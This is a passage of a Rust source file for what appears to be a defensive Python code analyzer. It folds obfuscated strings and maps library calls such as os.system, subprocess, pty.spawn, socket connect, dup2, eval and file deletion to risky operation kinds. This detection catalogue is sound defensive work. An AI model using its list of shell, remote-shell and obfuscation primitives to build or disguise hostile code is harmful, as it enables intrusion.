//! Python analyzer.
//!
//! Parses with `ruff_python_parser` and walks the tree with a small abstract
//! interpreter: values are constants where they can be folded (strings,
//! concatenations, f-strings, `''.join`, `%`/`.format`, base64, slicing),
//! templates with unknown holes where they are partly known, module symbols
//! (`os.system`, through aliases, `getattr`, `__import__`, `sys.modules`), or
//! unknown. Calls of known library functions become operations; shell code
//! goes to the bash analyzer, SQL to the SQL analyzer, constant `exec` code
//! back through this one.
//!
//! Function bodies are analyzed when called with the argument values of the
//! call (bounded depth and budget); functions never called are analyzed once
//! at the end with unknown parameters, since code in a `def` may run.

use std::borrow::Cow;

use ruff_python_ast::{
    self as ast, BoolOp, ConversionFlag, ExceptHandler, Expr, FStringPart,
    InterpolatedStringElement, Number, Operator, Pattern, PySourceType, Stmt, UnaryOp,
};
use ruff_python_parser::parse_unchecked_source;

use crate::ops::{Op, PathRef};
use crate::{Collector, Context, Lang, paths};

/// Marks an unknown part of a text template.
const HOLE: char = '\u{E000}';
const HOLE_STR: &str = "\u{E000}";
/// Marks an unknown part of a template that stays within one path component
/// (a file name from `os.listdir`, a `glob` wildcard, a temporary name).
const SEG: char = '\u{E001}';
const HOLES: [char; 2] = [HOLE, SEG];
/// Folded texts longer than this are not tracked.
const MAX_TEXT: usize = 1 << 16;
/// An allocation this large (bytes or items) is resource exhaustion.
const HUGE_ALLOC: i64 = 100_000_000;
/// Alternatives tracked for one value before it becomes unknown.
const MAX_ALTS: usize = 8;
/// Items tracked in a constant list.
const MAX_SEQ: usize = 512;
/// Elements a comprehension over a constant list is unrolled for.
const MAX_UNROLL: usize = 64;
/// Expression/statement nesting the walker follows.
const MAX_NEST: u32 = 100;
/// Nested function calls analyzed with their arguments.
const CALL_DEPTH: usize = 8;
/// Function bodies analyzed with arguments, in all.
const CALL_BUDGET: u32 = 200;
/// Instances of the code's own classes tracked.
const MAX_OBJS: usize = 64;
/// Nodes visited before calls are no longer analyzed with their arguments
/// (every function body is still analyzed once).
const WORK_LIMIT: u64 = 200_000;
/// Tokens one logical line may have before the parser could recurse too deep.
const MAX_LINE_TOKENS: usize = 4000;
/// Stand-in for an unknown part of a shell word.
const SHELL_VAR: &str = "$PY_VALUE";
/// Stand-in for an unknown part of SQL text.
const SQL_VAR: &str = "py_value";

/// Inspect Python `code` run in `cwd`.
pub fn analyze(c: &mut Collector, code: &str, cwd: &str) {
    if too_deep(code) {
        c.push(Op::opaque("python nests too deeply to inspect"));
        return;
    }
    let parsed = parse_unchecked_source(code, PySourceType::Python);
    if let Some(e) = parsed.errors().first() {
        c.push(Op::opaque(format!("python does not parse: {e}")));
    }
    let mut w = Walker::new(c, cwd, 0, 0);
    w.module(&parsed.syntax().body);
}

/// A cheap scan for input the parser would recurse on very deeply: long
/// operator/postfix chains on one logical line, or very deep brackets or
/// indentation.
fn too_deep(code: &str) -> bool {
    let b = code.as_bytes();
    let mut i = 0;
    let mut depth: usize = 0;
    let mut tokens: usize = 0;
    let mut line_start = true;
    let mut indent = 0usize;
    while i < b.len() {
        let ch = b[i];
        if line_start {
            if ch == b' ' || ch == b'\t' {
                indent += 1;
                if indent > 1000 {
                    return true;
                }
                i += 1;
                continue;
            }
            line_start = false;
        }
        match ch {
            b'\n' => {
                if depth == 0 {
                    tokens = 0;
                }
                line_start = true;
                indent = 0;
            }
            b'#' => {
                while i < b.len() && b[i] != b'\n' {
                    i += 1;
                }
                continue;
            }
            b'\'' | b'"' => {
                // Skip a string literal; f-strings may hold code, so count
                // the braces and operators inside every string.
                let triple = i + 2 < b.len() && b[i + 1] == ch && b[i + 2] == ch;
                let q = if triple { 3 } else { 1 };
                i += q;
                while i < b.len() {
                    let d = b[i];
                    if d == b'\\' {
                        i += 2;
                        continue;
                    }
                    if d == ch && (!triple || (i + 2 < b.len() && b[i + 1] == ch && b[i + 2] == ch))
                    {
                        i += q;
                        break;
                    }
                    if d == b'\n' && !triple {
                        break;
                    }
                    if d == b'{' {
                        tokens += 1;
                    }
                    i += 1;
                }
                if tokens > MAX_LINE_TOKENS {
                    return true;
                }
                continue;
            }
            b'(' | b'[' | b'{' => {
                depth += 1;
                if depth > 200 {
                    return true;
                }
                let prev = if i > 0 { b[i - 1] } else { b' ' };
                if prev.is_ascii_alphanumeric() || prev == b'_' || prev == b')' || prev == b']' {
                    tokens += 1;
                }
            }
            b')' | b']' | b'}' => depth = depth.saturating_sub(1),
            b'+' | b'-' | b'*' | b'/' | b'%' | b'&' | b'|' | b'^' | b'~' | b'@' | b'<' | b'>' => {
                tokens += 1
            }
            b'.' => {
                let next = b.get(i + 1).copied().unwrap_or(b' ');
                if next.is_ascii_alphabetic() || next == b'_' {
                    tokens += 1;
                }
            }
            c if c.is_ascii_alphabetic() || c == b'_' => {
                let start = i;
                while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
                    i += 1;
                }
                let word = &b[start..i];
                if matches!(
                    word,
                    b"not" | b"lambda" | b"await" | b"if" | b"yield" | b"and" | b"or" | b"in"
                ) {
                    tokens += 1;
                }
                if tokens > MAX_LINE_TOKENS {
                    return true;
                }
                continue;
            }
            _ => {}
        }
        if tokens > MAX_LINE_TOKENS {
            return true;
        }
        i += 1;
    }
    false
}

// ---------------------------------------------------------------------------
// Values

/// What a Python expression is known to evaluate to.
#[derive(Clone, Debug, PartialEq)]
enum V {
    Unknown,
    None,
    Bool(bool),
    Int(i64),
    /// An integer with at least these bits set (`st.st_mode | stat.S_ISUID`).
    Bits(i64),
    /// Exact text (bytes are decoded lossily).
    Str(String),
    /// Text with `HOLE` for unknown parts.
    Tmpl(String),
    /// Unknown text within one path component (a file name).
    Seg,
    /// A list or tuple.
    Seq(Vec<V>),
    /// One of these.
    Alt(Vec<V>),
    /// An iterable whose elements look like this.
    Iter(Box<V>),
    /// An endless iterator (`itertools.count()`).
    Endless,
    /// A module or library name: `os`, `os.system`, `subprocess.run`.
    Sym(String),
    /// A function or lambda of this code (index into the function table).
    Func(usize),
    /// A class of this code (index into the class table).
    Class(usize),
    /// An instance of a class of this code (index into the object table).
    Obj(usize),
    /// `globals()`.
    Globals,
    /// A `pathlib.Path`.
    Path(Box<V>),
    /// An open file or archive, with its path.
    File(Box<V>),
    /// The content of a file, with its path.
    FileText(Box<V>),
    /// `compile()` of constant source (analyzed when compiled).
    Code,
    /// A database connection, cursor or engine, with its database.
    Db(Option<String>),
    Socket,
    /// A socket's file descriptor.
    SockFd,
    /// A protocol client connecting later with `.connect(host, port)`.
    Client(&'static str, u16),
    /// An HTTP session: `.get(url)` and friends.
    Http(&'static str),
    /// `urllib.request.Request(url, data)`.
    Request(Box<(V, V)>),
    /// A dict: its values.
    Dict(Vec<V>),
    /// A process of the system (psutil), by pid text.
    Process(String),
    /// A child process this code started.
    Child,
    /// A python-crontab `CronTab`.
    CronTab,
}

fn alts(v: &V) -> &[V] {
    match v {
        V::Alt(vs) => vs,
        _ => std::slice::from_ref(v),
    }
}

/// One of `vs`: flattened, deduplicated, unknown past `MAX_ALTS`.
fn alt(vs: Vec<V>) -> V {
    let mut out: Vec<V> = Vec::with_capacity(vs.len());
    for v in vs {
        match v {
            V::Alt(inner) => {
                for x in inner {
                    if !out.contains(&x) {
                        out.push(x);
                    }
                }
            }
            x => {
                if !out.contains(&x) {
                    out.push(x);
                }
            }
        }
    }
    match out.len() {
        0 => V::Unknown,
        1 => out.pop().unwrap_or(V::Unknown),
        n if n > MAX_ALTS => V::Unknown,
        _ => V::Alt(out),
    }
}

fn merge(a: V, b: V) -> V {
    if a == b { a } else { alt(vec![a, b]) }
}

fn is_text(v: &V) -> bool {
    matches!(v, V::Str(_) | V::Tmpl(_))
}

/// The value as a text template (`HOLE` for unknown parts).
fn tmpl(v: &V) -> Cow<'_, str> {
    match v {
        V::Str(s) => {
            if s.contains(HOLES) {
                Cow::Owned(s.replace(HOLES, "\u{FFFD}"))
            } else {
                Cow::Borrowed(s)
            }
        }
        V::Tmpl(s) => Cow::Borrowed(s),
        V::Int(i) => Cow::Owned(i.to_string()),
        V::Bool(true) => Cow::Borrowed("True"),
        V::Bool(false) => Cow::Borrowed("False"),
        V::None => Cow::Borrowed("None"),
        V::Path(p) => tmpl(p),
        V::Seg => Cow::Borrowed("\u{E001}"),
        _ => Cow::Borrowed(HOLE_STR),
    }
}

/// Text (with holes) as a value: `Str`, `Tmpl`, or unknown when too long or
/// entirely unknown.
fn text(s: String) -> V {
    if s.len() > MAX_TEXT {
        return V::Unknown;
    }
    if !s.contains(HOLES) {
        return V::Str(s);
    }
    // Adjacent holes are one hole (spanning components if either does).
    let mut out = String::with_capacity(s.len());
    let mut prev = false;
    for ch in s.chars() {
        if ch == HOLE || ch == SEG {
            if !prev {
                out.push(ch);
            } else if ch == HOLE && out.ends_with(SEG) {
                out.pop();
                out.push(HOLE);
            }
            prev = true;
        } else {
            out.push(ch);
            prev = false;
        }
    }
    if prev && out.chars().count() == 1 {
        if out.starts_with(SEG) {
            V::Seg
        } else {
            V::Unknown
        }
    } else {
        V::Tmpl(out)
    }
}

fn push_lit(out: &mut String, s: &str) {
    if s.contains(HOLES) {
        out.push_str(&s.replace(HOLES, "\u{FFFD}"));
    } else {
        out.push_str(s);
    }
}

fn concat(a: &V, b: &V) -> V {
    match (a, b) {
        (V::FileText(_), _) => a.clone(),
        (_, V::FileText(_)) => b.clone(),
        (V::Alt(xs), _) => alt(xs.iter().map(|x| concat(x, b)).collect()),
        (_, V::Alt(ys)) => alt(ys.iter().map(|y| concat(a, y)).collect()),
        (V::Int(x), V::Int(y)) => x.checked_add(*y).map_or(V::Unknown, V::Int),
        (V::Seq(x), V::Seq(y)) => {
            if x.len() + y.len() <= MAX_SEQ {
                let mut v = x.clone();
                v.extend(y.iter().cloned());
                V::Seq(v)
            } else {
                V::Unknown
            }
        }
        (V::Str(_) | V::Tmpl(_), V::Str(_) | V::Tmpl(_) | V::Unknown | V::Int(_))
        | (V::Unknown | V::Int(_), V::Str(_) | V::Tmpl(_)) => {
            let (x, y) = (tmpl(a), tmpl(b));
            if x.len() + y.len() > MAX_TEXT {
                return V::Unknown;
            }
            let mut s = String::with_capacity(x.len() + y.len());
            s.push_str(&x);
            s.push_str(&y);
            text(s)
        }
        _ => V::Unknown,
    }
}

/// `os.path.join` / `Path /` on templates.
fn join_path(a: &str, b: &str) -> String {
    if b.starts_with('/') || a.is_empty() {
        return b.to_string();
    }
    let mut s = String::with_capacity(a.len() + b.len() + 1);
    s.push_str(a);
    if !a.ends_with('/') {
        s.push('/');
    }
    s.push_str(b);
    s
}

fn join_values(parts: &[V]) -> V {
    let mut acc: Option<String> = None;
    for p in parts {
        let t = match p {
            V::Alt(_) | V::Seq(_) => Cow::Borrowed(HOLE_STR),
            _ => tmpl(p),
        };
        acc = Some(match acc {
            None => t.into_owned(),
            Some(a) => join_path(&a, &t),
        });
    }
    match acc {
        Some(s) => text(s),
        None => V::Unknown,
    }
}

/// `os.path.dirname` on a template.
fn dirname(t: &str) -> String {
    match t.rfind('/') {
        Some(0) => "/".to_string(),
        Some(i) => t[..i].to_string(),
        None => String::new(),
    }
}

fn basename(t: &str) -> &str {
    match t.rfind('/') {
        Some(i) => &t[i + 1..],
        None => t,
    }
}

fn file_stem(t: &str) -> &str {
    let b = basename(t);
    match b.rfind('.') {
        Some(0) | None => b,
        Some(i) => &b[..i],
    }
}

fn truthy(v: Option<&V>) -> Option<bool> {
    match v {
        None | Some(V::None) => Some(false),
        Some(V::Bool(b)) => Some(*b),
        Some(V::Int(i)) => Some(*i != 0),
        Some(V::Str(s)) => Some(!s.is_empty()),
        _ => None,
    }
}

/// Known bits of an integer value.
fn bits(v: Option<&V>) -> i64 {
    match v {
        Some(V::Int(i)) | Some(V::Bits(i)) => *i,
        Some(V::Alt(vs)) => vs.iter().fold(0, |acc, x| acc | bits(Some(x))),
        _ => 0,
    }
}

fn int_binop(x: i64, op: Operator, y: i64) -> V {
    let r = match op {
        Operator::Add => x.checked_add(y),
        Operator::Sub => x.checked_sub(y),
        Operator::Mult => Some(x.saturating_mul(y)),
        Operator::Pow => {
            if y < 0 {
                None
            } else {
                Some(x.saturating_pow(u32::try_from(y).unwrap_or(u32::MAX)))
            }
        }
        Operator::FloorDiv => {
            if y == 0 {
                None
            } else {
                x.checked_div_euclid(y)
            }
        }
        Operator::Mod => {
            if y == 0 {
                None
            } else {
                x.checked_rem_euclid(y)
            }
        }
        Operator::BitOr => Some(x | y),
        Operator::BitAnd => Some(x & y),
        Operator::BitXor => Some(x ^ y),
        Operator::LShift => u32::try_from(y).ok().and_then(|s| x.checked_shl(s)),
        Operator::RShift => u32::try_from(y).ok().and_then(|s| x.checked_shr(s)),
        _ => None,
    };
    r.map_or(V::Unknown, V::Int)
}

/// Python index `i` into a sequence of `len`.
fn py_index(len: usize, i: i64) -> Option<usize> {
    let len = i64::try_from(len).ok()?;
    let j = if i < 0 { i.checked_add(len)? } else { i };
    if (0..len).contains(&j) {
        usize::try_from(j).ok()
    } else {
        None
    }
}

/// Python slice indices `[lo:hi:step]` over `len` items.
fn py_slice(len: usize, lo: Option<i64>, hi: Option<i64>, step: Option<i64>) -> Option<Vec<usize>> {
    let n = i64::try_from(len).ok()?;
    let step = step.unwrap_or(1);
    if step == 0 {
        return None;
    }
    let clamp = |v: Option<i64>, dflt: i64, lo_b: i64, hi_b: i64| -> i64 {
        match v {
            None => dflt,
            Some(x) => {
                let x = if x < 0 { x.saturating_add(n) } else { x };
                x.clamp(lo_b, hi_b)
            }
        }
    };
    let mut out = Vec::new();
    if step > 0 {
        let start = clamp(lo, 0, 0, n);
        let stop = clamp(hi, n, 0, n);
        let mut i = start;
        while i < stop {
            out.push(usize::try_from(i).ok()?);
            i = i.checked_add(step)?;
        }
    } else {
        let start = clamp(lo, n - 1, -1, n - 1);
        let stop = clamp(hi, -1, -1, n - 1);
        let mut i = start;
        while i > stop {
            out.push(usize::try_from(i).ok()?);
            i = i.checked_add(step)?;
        }
    }
    Some(out)
}

fn decode_b64(s: &str) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(s.len() / 4 * 3);
    let mut acc: u32 = 0;
    let mut nbits = 0;
    for ch in s.bytes() {
        let v = match ch {
            b'A'..=b'Z' => ch - b'A',
            b'a'..=b'z' => ch - b'a' + 26,
            b'0'..=b'9' => ch - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            b'=' => break,
            b' ' | b'\n' | b'\r' | b'\t' => continue,
            _ => return None,
        };
        acc = (acc << 6) | u32::from(v);
        nbits += 6;
        if nbits >= 8 {
            nbits -= 8;
            out.push(((acc >> nbits) & 0xff) as u8);
        }
    }
    Some(out)
}

fn decode_hex(s: &str) -> Option<Vec<u8>> {
    let digits: Vec<u8> = s.bytes().filter(|b| !b.is_ascii_whitespace()).collect();
    if !digits.len().is_multiple_of(2) {
        return None;
    }
    let val = |b: u8| -> Option<u8> {
        match b {
            b'0'..=b'9' => Some(b - b'0'),
            b'a'..=b'f' => Some(b - b'a' + 10),
            b'A'..=b'F' => Some(b - b'A' + 10),
            _ => None,
        }
    };
    digits
        .chunks(2)
        .map(|p| Some(val(p[0])? << 4 | val(p[1])?))
        .collect()
}

fn rot13(s: &str) -> String {
    s.chars()
        .map(|c| match c {
            'a'..='z' => (((c as u8 - b'a') + 13) % 26 + b'a') as char,
            'A'..='Z' => (((c as u8 - b'A') + 13) % 26 + b'A') as char,
            _ => c,
        })
        .collect()
}

fn bytes_text(b: &[u8]) -> V {
    if b.len() > MAX_TEXT {
        return V::Unknown;
    }
    V::Str(String::from_utf8_lossy(b).into_owned())
}

/// `fmt % args` on templates.
fn percent_format(fmt: &str, args: &V) -> V {
    let items: Vec<&V> = match args {
        V::Seq(xs) => xs.iter().collect(),
        other => vec![other],
    };
    let mut next = items.into_iter();
    let mut out = String::with_capacity(fmt.len());
    let mut chars = fmt.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '%' {
            out.push(c);
            continue;
        }
        if chars.peek() == Some(&'%') {
            chars.next();
            out.push('%');
            continue;
        }
        let mut named = false;
        if chars.peek() == Some(&'(') {
            named = true;
            for d in chars.by_ref() {
                if d == ')' {
                    break;
                }
            }
        }
        // flags, width, precision, then the conversion letter
        let mut conv = None;
        for d in chars.by_ref() {
            if d.is_ascii_alphabetic() {
                conv = Some(d);
                break;
            }
        }
        let arg = if named { None } else { next.next() };
        match (conv, arg) {
            (Some('r' | 'a'), Some(v @ V::Str(_))) => {
                out.push('\'');
                out.push_str(&tmpl(v));
                out.push('\'');
            }
            (Some(_), Some(v)) if !matches!(v, V::Alt(_)) => out.push_str(&tmpl(v)),
            _ => out.push(HOLE),
        }
        if out.len() > MAX_TEXT {
            return V::Unknown;
        }
    }
    text(out)
}

/// `fmt.format(*pos, **kw)` on templates.
fn brace_format(fmt: &str, pos: &[V], kw: &[(&str, V)]) -> V {
    let mut out = String::with_capacity(fmt.len());
    let mut auto = 0usize;
    let mut chars = fmt.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '{' if chars.peek() == Some(&'{') => {
                chars.next();
                out.push('{');
            }
            '}' if chars.peek() == Some(&'}') => {
                chars.next();
                out.push('}');
            }
            '{' => {
                let mut field = String::new();
                let mut depth = 1;
                for d in chars.by_ref() {
                    match d {
                        '{' => depth += 1,
                        '}' => {
                            depth -= 1;
                            if depth == 0 {
                                break;
                            }
                        }
                        _ => {}
                    }
                    field.push(d);
                }
                let spec_at = field.find([':', '!']).unwrap_or(field.len());
                let (name, rest) = field.split_at(spec_at);
                let simple = rest.is_empty() || rest == "!s";
                let v = if name.is_empty() {
                    auto += 1;
                    pos.get(auto - 1)
                } else if let Ok(i) = name.parse::<usize>() {
                    pos.get(i)
                } else {
                    kw.iter().find(|(k, _)| *k == name).map(|(_, v)| v)
                };
                match v {
                    Some(v) if simple && !matches!(v, V::Alt(_)) => out.push_str(&tmpl(v)),
                    _ => out.push(HOLE),
                }
            }
            _ => out.push(c),
        }
        if out.len() > MAX_TEXT {
            return V::Unknown;
        }
    }
    text(out)
}

/// Host and port of a URL template; the host is `?` when unknown.
fn url_target(u: &str) -> (String, Option<u16>) {
    let (scheme, rest) = match u.find("://") {
        Some(i) => (&u[..i], &u[i + 3..]),
        None => ("", u),
    };
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let auth = &rest[..end];
    let hostport = auth.rsplit_once('@').map_or(auth, |(_, h)| h);
    let (host, port) = split_host_port(hostport);
    let port = port.or_else(|| default_port(scheme));
    (host, port)
}

fn split_host_port(hp: &str) -> (String, Option<u16>) {
    let (host, port) = if let Some(r) = hp.strip_prefix('[') {
        match r.split_once(']') {
            Some((h, p)) => (h, p.strip_prefix(':').and_then(|p| p.parse().ok())),
            None => (r, None),
        }
    } else {
        match hp.rsplit_once(':') {
            Some((h, p)) if !h.contains(':') => (h, p.parse().ok()),
            _ => (hp, None),
        }
    };
    (host_text(host), port)
}

fn host_text(h: &str) -> String {
    if h.is_empty() || h.contains(HOLES) {
        "?".to_string()
    } else {
        h.to_ascii_lowercase()
    }
}

fn default_port(scheme: &str) -> Option<u16> {
    Some(match scheme.to_ascii_lowercase().as_str() {
        "http" | "ws" => 80,
        "https" | "wss" => 443,
        "ftp" => 21,
        "ftps" => 990,
        "ssh" | "sftp" | "scp" => 22,
        "smtp" => 25,
        "git" => 9418,
        "postgres" | "postgresql" => 5432,
        "mysql" => 3306,
        "redis" => 6379,
        "mongodb" => 27017,
        _ => return None,
    })
}

fn looks_like_url(s: &str) -> bool {
    let l = s.len().min(8);
    let head = s[..s.floor_char_boundary(l)].to_ascii_lowercase();
    head.starts_with("http://")
        || head.starts_with("https://")
        || head.starts_with("ws://")
        || head.starts_with("wss://")
        || head.starts_with("ftp://")
}

fn looks_like_sql(s: &str) -> bool {
    let w = s
        .trim_start()
        .split(|c: char| !c.is_ascii_alphabetic())
        .next()
        .unwrap_or("");
    matches!(
        w.to_ascii_uppercase().as_str(),
        "SELECT"
            | "INSERT"
            | "UPDATE"
            | "DELETE"
            | "CREATE"
            | "DROP"
            | "ALTER"
            | "WITH"
            | "PRAGMA"
            | "TRUNCATE"
            | "GRANT"
            | "REVOKE"
            | "BEGIN"
            | "COPY"
            | "EXPLAIN"
            | "SHOW"
            | "REPLACE"
            | "MERGE"
            | "VACUUM"
            | "ATTACH"
            | "SET"
            | "USE"
    )
}

/// Shell-quote one word (a known program or argument).
fn sh_quote(s: &str, first: bool, out: &mut String) {
    let safe = !s.is_empty()
        && s.bytes().all(|b| {
            b.is_ascii_alphanumeric()
                || matches!(
                    b,
                    b'_' | b'.' | b'/' | b'-' | b':' | b',' | b'+' | b'@' | b'%'
                )
                || (b == b'=' && !first)
        });
    if safe {
        out.push_str(s);
        return;
    }
    out.push('\'');
    for ch in s.chars() {
        if ch == '\'' {
            out.push_str("'\\''");
        } else {
            out.push(ch);
        }
    }
    out.push('\'');
}

/// Quote a word template: literal parts quoted, holes as `"$PY_VALUE"`.
fn sh_quote_tmpl(t: &str, out: &mut String) {
    let mut first = true;
    for part in t.split(HOLES) {
        if !first {
            out.push('"');
            out.push_str(SHELL_VAR);
            out.push('"');
        }
        if !part.is_empty() {
            sh_quote(part, false, out);
        }
        first = false;
    }
}

/// The shell command line running `argv` (the program must be known).
fn argv_line(argv: &[&V]) -> Option<String> {
    let mut out = String::new();
    for (i, a) in argv.iter().enumerate() {
        let a: &V = a;
        let a: &V = match a {
            V::Path(p) => p,
            other => other,
        };
        if i > 0 {
            out.push(' ');
        }
        match a {
            V::Str(s) => sh_quote(s, i == 0, &mut out),
            _ if i == 0 => return None,
            V::Int(_) | V::Bool(_) => out.push_str(&tmpl(a)),
            V::Tmpl(t) => sh_quote_tmpl(t, &mut out),
            _ => {
                out.push('"');
                out.push_str(SHELL_VAR);
                out.push('"');
            }
        }
    }
    Some(out)
}

/// Expand argv elements that are alternatives into separate command lines.
fn expand_argv(items: &[V]) -> Vec<Vec<&V>> {
    let mut out: Vec<Vec<&V>> = vec![Vec::with_capacity(items.len())];
    for it in items {
        let choices = alts(it);
        if out.len() * choices.len() > MAX_ALTS {
            for o in &mut out {
                o.push(&V::Unknown);
            }
            continue;
        }
        let mut next = Vec::with_capacity(out.len() * choices.len());
        for o in &out {
            for ch in choices {
                let mut v = o.clone();
                v.push(ch);
                next.push(v);
            }
        }
        out = next;
    }
    out
}

fn signal_name(n: i64) -> String {
    match n {
        1 => "SIGHUP".into(),
        2 => "SIGINT".into(),
        3 => "SIGQUIT".into(),
        9 => "SIGKILL".into(),
        15 => "SIGTERM".into(),
        17 | 18 => "SIGCONT".into(),
        19 => "SIGSTOP".into(),
        _ => n.to_string(),
    }
}

fn sig_text(v: Option<&V>, dflt: &str) -> String {
    match v {
        None | Some(V::None) => dflt.to_string(),
        Some(V::Sym(q)) => q.rsplit('.').next().unwrap_or(q).to_string(),
        Some(V::Int(n)) => signal_name(*n),
        _ => "?".to_string(),
    }
}

fn pid_text(v: Option<&V>) -> String {
    match v {
        Some(V::Int(n)) => n.to_string(),
        Some(V::Str(s)) => s.clone(),
        _ => "?".to_string(),
    }
}

fn is_ident(s: &str) -> bool {
    !s.is_empty()
        && s.chars().all(|c| c.is_alphanumeric() || c == '_')
        && !s.starts_with(|c: char| c.is_ascii_digit())
}

/// Canonical module names: aliases of the same module map to one name.
fn norm_qual(q: &str) -> String {
    let (head, rest) = match q.find('.') {
        Some(i) => (&q[..i], &q[i..]),
        None => (q, ""),
    };
    let head = match head {
        "posix" | "nt" => "os",
        "posixpath" | "ntpath" | "genericpath" => "os.path",
        "__builtin__" | "__builtins__" => "builtins",
        "cPickle" | "_pickle" | "dill" | "cloudpickle" => "pickle",
        "urllib2" => "urllib.request",
        "subprocess32" => "subprocess",
        "pathlib2" => "pathlib",
        "_io" => "io",
        "_thread" | "thread" => "threading",
        "_socket" => "socket",
        "_ctypes" => "ctypes",
        h => h,
    };
    if head == "builtins" && !rest.is_empty() {
        return rest[1..].to_string();
    }
    let mut s = String::with_capacity(head.len() + rest.len());
    s.push_str(head);
    s.push_str(rest);
    match s.as_str() {
        "urllib.urlopen" => "urllib.request.urlopen".into(),
        "urllib.urlretrieve" => "urllib.request.urlretrieve".into(),
        "io.open" | "codecs.open" | "io.FileIO" | "gzip.open" | "bz2.open" | "lzma.open" => {
            "open".into()
        }
        _ => s,
    }
}

fn stat_const(name: &str) -> Option<i64> {
    Some(match name {
        "S_ISUID" => 0o4000,
        "S_ISGID" => 0o2000,
        "S_ISVTX" => 0o1000,
        "S_IRWXU" => 0o700,
        "S_IRUSR" | "S_IREAD" => 0o400,
        "S_IWUSR" | "S_IWRITE" => 0o200,
        "S_IXUSR" | "S_IEXEC" => 0o100,
        "S_IRWXG" => 0o70,
        "S_IRGRP" => 0o40,
        "S_IWGRP" => 0o20,
        "S_IXGRP" => 0o10,
        "S_IRWXO" => 0o7,
        "S_IROTH" => 0o4,
        "S_IWOTH" => 0o2,
        "S_IXOTH" => 0o1,
        _ => return None,
    })
}

fn os_flag(name: &str) -> Option<i64> {
    Some(match name {
        "O_RDONLY" => 0,
        "O_WRONLY" => 1,
        "O_RDWR" => 2,
        "O_CREAT" => 0o100,
        "O_EXCL" => 0o200,
        "O_TRUNC" => 0o1000,
        "O_APPEND" => 0o2000,
        _ => return None,
    })
}

// ---------------------------------------------------------------------------
// Library knowledge

#[derive(Clone, Copy, Debug, PartialEq)]
enum Db {
    Sqlite,
    Server(u16),
    Url,
}

#[derive(Clone, Copy, Debug, PartialEq)]
enum Dec {
    B64,
    Hex,
    Codecs,
}

/// What a library function does, by kind.
#[derive(Clone, Copy, Debug, PartialEq)]
enum K {
    Shell,
    Proc,
    ProcExec,
    ExecL { skip: usize, env: bool },
    ExecV { skip: usize },
    PtySpawn,
    Fork,
    Open,
    OsOpen,
    Read,
    Walk,
    Glob,
    Write,
    Delete(bool),
    Move(bool),
    Copy,
    Chmod,
    Chown,
    Chdir,
    Link,
    Logging,
    LogHandler,
    Archive,
    Unpack,
    MakeArchive,
    Retrieve,
    PathNew,
    PathHome,
    PathCwd,
    Join,
    Expanduser,
    Expandvars,
    Abspath,
    Dirname,
    Basename,
    Getcwd,
    Getenv,
    Which,
    TempDir,
    MkdTemp,
    MksTemp,
    Getpid,
    Getppid,
    Hostname,
    Decode(Dec),
    Str,
    Bytes,
    Chr,
    Ord,
    Int,
    List,
    Reversed,
    Map,
    Getattr,
    Import { full: bool },
    Globals,
    Vars,
    Socket,
    SockConnect,
    SockServer,
    Dns,
    Url(usize, &'static str),
    DataRead,
    HttpConn(u16),
    HttpSession(&'static str),
    Request,
    HostClient(u16, &'static str),
    SshClient,
    SshTransport,
    Boto,
    CloneFrom,
    Pip,
    Eval(&'static str),
    Compile,
    RunPath,
    RunModule,
    LoadSource,
    Unsafe,
    Yaml,
    Torch,
    NumpyLoad,
    Native,
    Priv,
    Kill,
    KillPg,
    PsProcess,
    PsIter,
    CronTab,
    Spawn,
    StartThread,
    DbConnect(Db),
    ReadSql,
    Endless,
    Repeat,
    ShlexSplit,
    ShlexQuote,
    ShlexJoin,
    HostPort(&'static str),
    Raw,
    TempFile,
    Dup2,
    Enumerate,
    Zip,
    EnvDump,
}

fn kind(q: &str) -> Option<K> {
    use K::*;
    Some(match q {
        "os.system"
        | "os.popen"
        | "os.popen2"
        | "os.popen3"
        | "os.popen4"
        | "subprocess.getoutput"
        | "subprocess.getstatusoutput"
        | "commands.getoutput"
        | "commands.getstatusoutput"
        | "commands.getstatus"
        | "platform.popen"
        | "asyncio.create_subprocess_shell" => Shell,
        "subprocess.run"
        | "subprocess.call"
        | "subprocess.check_call"
        | "subprocess.check_output"
        | "subprocess.Popen" => Proc,
        "asyncio.create_subprocess_exec" => ProcExec,
        "os.execl" | "os.execlp" => ExecL {
            skip: 0,
            env: false,
        },
        "os.execle" | "os.execlpe" => ExecL { skip: 0, env: true },
        "os.spawnl" | "os.spawnlp" => ExecL {
            skip: 1,
            env: false,
        },
        "os.spawnle" | "os.spawnlpe" => ExecL { skip: 1, env: true },
        "os.execv" | "os.execve" | "os.execvp" | "os.execvpe" | "os.posix_spawn"
        | "os.posix_spawnp" => ExecV { skip: 0 },
        "os.spawnv" | "os.spawnve" | "os.spawnvp" | "os.spawnvpe" => ExecV { skip: 1 },
        "pty.spawn" => PtySpawn,
        "os.fork" | "os.forkpty" | "pty.fork" => Fork,
        "open" | "tarfile.TarFile" => Open,
        "os.open" => OsOpen,
        "os.listdir" | "os.scandir" => Read,
        "os.walk" | "os.fwalk" => Walk,
        "glob.glob" | "glob.iglob" => Glob,
        "os.makedirs" | "os.mkdir" | "os.mkfifo" | "os.mknod" | "os.truncate" | "os.utime" => Write,
        "os.remove" | "os.unlink" | "os.rmdir" | "os.removedirs" | "send2trash.send2trash" => {
            Delete(false)
        }
        "shutil.rmtree" => Delete(true),
        "shutil.move" => Move(true),
        "os.rename" | "os.replace" | "os.renames" => Move(false),
        "shutil.copy" | "shutil.copy2" | "shutil.copyfile" | "shutil.copytree" => Copy,
        "os.chmod" | "os.lchmod" | "shutil.copymode" => Chmod,
        "os.chown" | "os.lchown" | "shutil.chown" => Chown,
        "os.chdir" => Chdir,
        "os.symlink" | "os.link" => Link,
        "logging.basicConfig" => Logging,
        "logging.FileHandler"
        | "logging.handlers.RotatingFileHandler"
        | "logging.handlers.TimedRotatingFileHandler"
        | "logging.handlers.WatchedFileHandler" => LogHandler,
        "zipfile.ZipFile" | "tarfile.open" => Archive,
        "shutil.unpack_archive" => Unpack,
        "shutil.make_archive" => MakeArchive,
        "urllib.request.urlretrieve" | "wget.download" => Retrieve,
        "pathlib.Path" | "pathlib.PurePath" | "pathlib.PosixPath" | "pathlib.PurePosixPath" => {
            PathNew
        }
